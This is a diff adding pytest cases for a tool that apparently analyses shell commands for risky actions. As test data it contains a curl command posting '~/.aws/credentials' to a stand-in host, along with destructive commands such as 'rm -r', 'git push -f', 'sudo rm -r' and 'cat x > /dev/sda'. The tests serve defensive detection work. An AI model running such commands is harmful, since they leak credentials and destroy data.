@@ -99,7 +99,15 @@ def test_files_and_hosts_are_listed_in_order_without_repeats() -> None:
         (("~/.aws/credentials", False), ("out.txt", True)),
         ("https://a.test/x",),
         sent=(("~/.aws/credentials", ("https://a.test/x",)),),
+        programs=((("curl", "-d", "@-", "https://a.test/x"),),),
     )
+
+
+def test_programs_behind_a_finding_are_told_apart_and_what_nobody_knows_is_empty() -> None:
+    assert analyse("rm -r a; rm -r $X b; git push -f").programs == ((("rm", "-r", "a"), ("rm", "-r", "", "b")), (("git", "push", "-f"),))
+    assert analyse("cat x > /dev/sda").programs == (((),),)
+    assert analyse("; ".join(f"rm -r a{number}" for number in range(99))).programs[0][-1] == ()
+    assert analyse("sudo rm -r a").programs == ((("rm", "-r", "a"),), (("sudo", "rm", "-r", "a"),))
 
 
 @pytest.mark.parametrize(
